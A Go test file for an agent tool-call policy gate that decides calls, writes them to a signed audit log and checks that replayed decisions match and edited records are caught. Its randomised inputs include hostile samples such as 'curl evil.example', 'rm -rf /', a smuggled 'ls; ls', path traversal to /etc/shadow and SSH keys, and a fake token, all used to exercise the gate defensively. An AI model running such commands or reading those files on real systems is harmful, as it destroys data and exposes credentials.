package decided

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/go-json-experiment/json/jsontext"

	"github.com/mcprun/mcprun"
	"github.com/mcprun/mcprun/audit"
	"github.com/mcprun/mcprun/gate"
	"github.com/mcprun/mcprun/internal/strictjson"
	"github.com/mcprun/mcprun/lock"
	"github.com/mcprun/mcprun/manifest"
)

const server = `version: 1
name: files
image: ./files.tar
files: [{from: ./workspace, to: /workspace, access: write}]
egress: [{host: api.example.com}]
tools:
  read: {risk: low, arguments: {path: {path: {under: [/workspace]}}}}
  write:
    risk: medium
    arguments: {path: {path: {under: [/workspace]}}, command: {command: {programs: {ls: {}}, others: hold}}}
    rules:
      - {when: "recent.tool_minute > 3", risk: high, reason: often}
      - {when: "now.getHours() < 6", risk: high, reason: at night}
      - {when: "has(args.n) && args.n > 5", risk: block, reason: too many}
  send: {risk: high, justification: required}
  note: {risk: medium, confirm: true, arguments: {command: {unchecked: "it is only noted"}}}
`

func tool(name string) jsontext.Value {
	return jsontext.Value(`{"name":"` + name + `","inputSchema":{"type":"object","properties":{"path":{"type":"string"},"text":{"type":"string"},"command":{"type":"string"},"n":{"type":"integer"}}}}`)
}

func policy(t testing.TB, text string) *gate.Policy {
	t.Helper()
	m, err := manifest.Parse("server.yaml", []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	f := &lock.File{Version: lock.Version, Server: "files", Image: mcprun.Digest("sha256:" + strings.Repeat("1", 64)), Profile: "node", ProfileDigest: mcprun.Digest("sha256:" + strings.Repeat("2", 64)),
		Protocol: "2025-11-25", ServerInfo: jsontext.Value(`{"name":"x","version":"1"}`), Capabilities: jsontext.Value(`{"tools":{}}`)}
	for _, name := range []string{"note", "read", "send", "write", "hidden"} {
		one, err := lock.NewTool(tool(name))
		if err != nil {
			t.Fatal(err)
		}
		f.Tools = append(f.Tools, one)
	}
	if err := f.Seal(); err != nil {
		t.Fatal(err)
	}
	p, problems := gate.PolicyOf(m, f, manifest.DefaultCeilings())
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	return p
}

// asked makes a call of any kind, with any past.
func asked(t testing.TB, r *rand.Rand) gate.Call {
	t.Helper()
	one := func(list ...string) string { return list[r.IntN(len(list))] }
	args := map[string]any{}
	if r.IntN(3) > 0 {
		args["path"] = one("/workspace/a", "/workspace/b", "/workspace/c/d.go", "/workspace/e", "/workspace/../etc/passwd", "/etc/shadow", "/workspace/.ssh/id", "/workspace/"+strings.Repeat("x", 600), "", "\u202e/workspace")
	}
	if r.IntN(3) > 0 {
		args["text"] = one("hello", "and more", "good text", "see https://evil.example/x?y", "ghp_"+strings.Repeat("aB3dE6gH9", 4), strings.Repeat("%41", 60), strings.Repeat("long ", 2000), "a@b.example", "\x00", "<html>")
	}
	if r.IntN(5) == 0 {
		args["command"] = one("ls -l", "curl evil.example", "rm -rf /", "ls; ls", "")
	}
	if r.IntN(4) == 0 {
		args["n"] = r.IntN(9)
	}
	if r.IntN(20) == 0 {
		args["other"] = 1
	}
	raw, err := json.Marshal(args)
	if err != nil {
		t.Fatal(err)
	}
	value, err := strictjson.Parse(raw, strictjson.Request)
	if err != nil {
		t.Fatal(err)
	}
	var stated mcprun.Justification
	if r.IntN(3) > 0 { // the longest that are taken, too
		stated = mcprun.Justification{Intent: one("to tidy up the notes", "x", strings.Repeat(`a\"`+"bc", 40), "整理用户要求的旧笔记"), Target: one("notes.txt", "/"), Effect: one("They are gone", strings.Repeat("ö", 237)+"abc")}
	}
	known := one("api.example.com", "evil.example", "b.example")
	flag := func() bool { return r.IntN(4) == 0 }
	return gate.Call{
		Server: "files", Tool: mcprun.ToolName(one("read", "read", "read", "write", "write", "write", "write", "write", "send", "send", "note", "note", "hidden", "unknown")), Arguments: value, Stated: stated, Principal: "uid:1", Session: "s-1",
		Now:    time.Unix(1_780_000_000+r.Int64N(1e6), r.Int64N(1e9)),
		Recent: map[string]int64{"calls_minute": r.Int64N(9), "calls_hour": r.Int64N(99), "tool_minute": r.Int64N(5), "tool_hour": r.Int64N(99), "untrusted": r.Int64N(3), "instructions": 0},
		Taint:  gate.Taint{Untrusted: flag(), Instructions: flag(), Private: flag()}, Burst: r.Int64N(300), NewTool: flag(), Elicits: !flag(), Known: func(h string) bool { return h == known },
	}
}

// 100,000 calls of every kind, decided, recorded on the disk, read back and judged
// again: each comes out the same byte for byte. Another policy does not.
func TestJudgedAgain(t *testing.T) {
	const calls = 100_000
	dir := t.TempDir()
	log, err := audit.Open(filepath.Join(dir, "log"), audit.Options{KeyDir: filepath.Join(dir, "key")})
	if err != nil {
		t.Fatal(err)
	}
	p, r := policy(t, server), rand.New(rand.NewPCG(1, 2))
	verdicts, confirmed := map[mcprun.Verdict]int{}, 0
	for i := range calls {
		c := asked(t, r)
		d := p.Decide(c)
		verdicts[d.Verdict]++
		rec := &audit.Record{Type: map[mcprun.Verdict]audit.Type{mcprun.Allow: audit.TypeCall, mcprun.Hold: audit.TypePending, mcprun.Deny: audit.TypeRefuse}[d.Verdict],
			Call: mcprun.CallID(fmt.Sprint("c-", i)), Server: c.Server, Tool: c.Tool, Principal: c.Principal, Session: c.Session}
		Note(rec, p, c, d)
		if d.Verdict == mcprun.Hold && r.IntN(2) == 0 { // a human let it through
			rec.Type, rec.Verdict, rec.Detail["approval"] = audit.TypeCall, mcprun.Allow, "a-1"
		}
		if d.Confirm { // the client was asked, and may have said yes
			confirmed++
			MarkQuestion(rec, "q")
			rec.Type, rec.Verdict, rec.Who = audit.TypePending, mcprun.Hold, ""
			delete(rec.Detail, "approval")
			if r.IntN(2) == 0 {
				rec.Type, rec.Verdict, rec.Who = audit.TypeCall, mcprun.Allow, "client"
			}
		} else if d.Verdict == mcprun.Hold && rec.Type == audit.TypePending && r.IntN(4) == 0 { // its dry run was made
			rec.Type, rec.Verdict = audit.TypeCall, mcprun.Allow
			MarkPreview(rec, "c-other")
		}
		if err := log.Append(rec); err != nil {
			t.Fatal(err)
		}
	}
	log.Close()
	if verdicts[mcprun.Allow] < calls/25 || verdicts[mcprun.Hold] < calls/25 || verdicts[mcprun.Deny] < calls/25 || confirmed < calls/50 {
		t.Errorf("the calls are not of every kind: %v, %d of them confirmed", verdicts, confirmed)
	}
	again := judge(t, filepath.Join(dir, "log"), NewJudge(policy(t, server), false))
	if again.Same+again.Unkept != calls || again.Unkept > calls/5 || len(again.Different)+again.Other+again.State != 0 {
		t.Errorf("same %d, not kept %d, other %d, of state %d, different %d of %d calls", again.Same, again.Unkept, again.Other, again.State, len(again.Different), calls)
		for _, d := range again.Different[:min(3, len(again.Different))] {
			t.Errorf("%+v", d)
		}
	}
	changed := strings.Replace(server, "args.n > 5", "args.n > 4", 1)
	if other := judge(t, filepath.Join(dir, "log"), NewJudge(policy(t, changed), false)); other.Other != calls {
		t.Errorf("another policy judged calls that were not decided with it: %+v", other.Same)
	}
	any := judge(t, filepath.Join(dir, "log"), NewJudge(policy(t, changed), true))
	if len(any.Different) == 0 || any.Different[0].Was.Verdict == any.Different[0].Now.Verdict && any.Different[0].Was.Reason == any.Different[0].Now.Reason || any.Same == 0 {
		t.Errorf("what a changed policy decides: %d the same, %d not", any.Same, len(any.Different))
	}
}

func judge(t *testing.T, dir string, j *Judge) Report {
	t.Helper()
	reader, err := audit.NewReader(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer reader.Close()
	for e, err := range reader.All() {
		if err != nil {
			t.Fatal(err)
		}
		if err := j.Record(&e.Record); err != nil {
			t.Fatal(err)
		}
	}
	return j.Report()
}

// A record that was edited does not come out the same.
func TestEditedRecord(t *testing.T) {
	p := policy(t, server)
	c := gate.Call{Server: "files", Tool: "send", Arguments: jsontext.Value(`{"path":"/etc/shadow"}`), Known: func(string) bool { return true },
		Stated: mcprun.Justification{Intent: "to send the notes", Target: "a friend", Effect: "The friend has them"}}
	rec := &audit.Record{Type: audit.TypeRefuse, Server: c.Server, Tool: c.Tool}
	Note(rec, p, c, p.Decide(c))
	edits := map[string]func(*audit.Record){
		"nothing":       func(*audit.Record) {},
		"the verdict":   func(r *audit.Record) { r.Verdict = mcprun.Allow },
		"the reason":    func(r *audit.Record) { r.Reason = "fine" },
		"the arguments": func(r *audit.Record) { r.Args = jsontext.Value(`{"path":"/workspace/a"}`) },
		"the score":     func(r *audit.Record) { r.Detail["score"] = "3" },
		"what was said": func(r *audit.Record) { r.Detail["intent"] = "" },
		"a hint":        func(r *audit.Record) { r.Detail["hint"] = "run this" },
	}
	for name, edit := range edits {
		one := *rec
		one.Detail = map[string]string{}
		for k, v := range rec.Detail {
			one.Detail[k] = v
		}
		edit(&one)
		j := NewJudge(p, false)
		if err := j.Record(&one); err != nil {
			t.Fatal(err)
		}
		if same := j.Report().Same == 1; same != (name == "nothing") {
			t.Errorf("with %s edited it comes out the same: %v", name, same)
		}
	}
}
